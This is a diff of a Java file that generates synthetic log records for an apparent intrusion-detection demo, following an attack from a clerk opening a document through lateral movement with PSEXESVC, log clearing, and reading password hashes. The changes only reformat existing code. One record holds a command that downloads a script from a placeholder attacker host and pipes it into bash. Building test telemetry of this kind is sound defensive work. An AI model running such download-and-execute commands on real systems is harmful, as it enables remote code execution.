@@ -2,12 +2,12 @@ package io.marsad.server.demo;
 
 import io.marsad.server.demo.Records.Launch;
 import io.marsad.server.demo.Records.Record;
+import java.nio.charset.StandardCharsets;
 import java.time.Duration;
 import java.time.Instant;
 import java.util.ArrayList;
 import java.util.Base64;
 import java.util.List;
-import java.nio.charset.StandardCharsets;
 
 /**
  * The story: a freight company's clerk opens a document, and from there it goes to credentials, the file server, the
@@ -96,8 +96,16 @@ final class Intrusion {
                         "Microsoft-Windows-PowerShell/Operational",
                         4104,
                         Records.map(
-                                "MessageNumber", 1, "MessageTotal", 1, "ScriptBlockText", cradle, "ScriptBlockId",
-                                records.guid(), "Path", "")));
+                                "MessageNumber",
+                                1,
+                                "MessageTotal",
+                                1,
+                                "ScriptBlockText",
+                                cradle,
+                                "ScriptBlockId",
+                                records.guid(),
+                                "Path",
+                                "")));
         step(
                 "a program start is registered in the user's folder",
                 "windows/registry_set/run-key-user-folder",
@@ -228,8 +236,16 @@ final class Intrusion {
                         "System",
                         7045,
                         Records.map(
-                                "ServiceName", "PSEXESVC", "ImagePath", "%SystemRoot%\\PSEXESVC.exe", "ServiceType",
-                                "user mode service", "StartType", "demand start", "AccountName", "LocalSystem")));
+                                "ServiceName",
+                                "PSEXESVC",
+                                "ImagePath",
+                                "%SystemRoot%\\PSEXESVC.exe",
+                                "ServiceType",
+                                "user mode service",
+                                "StartType",
+                                "demand start",
+                                "AccountName",
+                                "LocalSystem")));
         step(
                 "the file server's security log is cleared",
                 "windows/security/log-cleared",
@@ -256,7 +272,8 @@ final class Intrusion {
         step(
                 "a download is piped into a shell",
                 "linux/process_creation/download-piped-to-shell",
-                records.execve(at(412), 0, "/usr/bin/dash", "sh", "-c", "curl -fsSL http://" + ATTACKER + "/i.sh | bash"));
+                records.execve(
+                        at(412), 0, "/usr/bin/dash", "sh", "-c", "curl -fsSL http://" + ATTACKER + "/i.sh | bash"));
         step(
                 "password hashes are read on the web server",
                 "linux/process_creation/shadow-read",
